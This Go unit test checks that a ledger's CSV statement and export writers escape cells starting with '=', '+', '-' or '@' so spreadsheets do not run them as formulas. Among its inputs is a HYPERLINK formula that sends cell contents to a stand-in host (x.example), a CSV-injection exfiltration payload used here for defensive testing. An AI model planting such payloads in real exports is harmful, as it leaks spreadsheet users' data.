package finance

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/tallyhq/tally/shared/events"
)

// TestCSVCellsCannotBeFormulas: ids are chosen by clients (request ids) and admins (grant
// ids), and the id grammar allows a leading '=', '+', '-' or '@'. A spreadsheet opening the
// statement or the export must not run them as formulas: every text cell that starts with
// one is written with a leading apostrophe; amounts stay plain numbers.
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	at := time.Date(2026, 11, 3, 0, 0, 0, 0, time.UTC)
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)"}
	var lines []events.LedgerEntry
	for i, h := range hostile {
		lines = append(lines, events.LedgerEntry{EntryID: h + "-e", TransactionID: h, AccountID: "acct",
			LedgerAccount: events.LedgerAvailable, AmountMicros: -int64(i + 1), Kind: "charge", RequestID: h, GrantID: h,
			EffectiveAt: at})
	}
	st := &Statement{AccountID: "acct", From: at.Add(-time.Hour), To: at.Add(time.Hour), OpeningMicros: 10, ClosingMicros: 0, Entries: lines}
	x := &Export{AccountID: "acct", Month: "2026-11", From: st.From, To: st.To}
	for _, l := range lines {
		x.Lines = append(x.Lines, ExportLine{Time: l.EffectiveAt, TransactionID: l.TransactionID, EntryID: l.EntryID, Kind: l.Kind,
			LedgerAccount: l.LedgerAccount, AmountMicros: l.AmountMicros, RequestID: l.RequestID, GrantID: l.GrantID})
	}
	for name, write := range map[string]func(*bytes.Buffer) error{
		"statement": func(b *bytes.Buffer) error { return st.WriteCSV(b) },
		"export":    func(b *bytes.Buffer) error { return x.WriteCSV(b) },
	} {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		numeric := map[int]bool{}
		for i, h := range rows[0] {
			numeric[i] = strings.HasSuffix(h, "_micros") || h == "lines"
		}
		negatives := 0
		for _, r := range rows[1:] {
			for i, c := range r {
				if c == "" {
					continue
				}
				if numeric[i] {
					if strings.HasPrefix(c, "'") {
						t.Errorf("%s: amount cell %q quoted", name, c)
					}
					if strings.HasPrefix(c, "-") {
						negatives++
					}
					continue
				}
				if strings.ContainsAny(c[:1], "=+-@\t\r") {
					t.Errorf("%s: column %s cell %q would be read as a formula", name, rows[0][i], c)
				}
			}
		}
		if negatives == 0 {
			t.Errorf("%s: no negative amounts written as numbers", name)
		}
	}
}
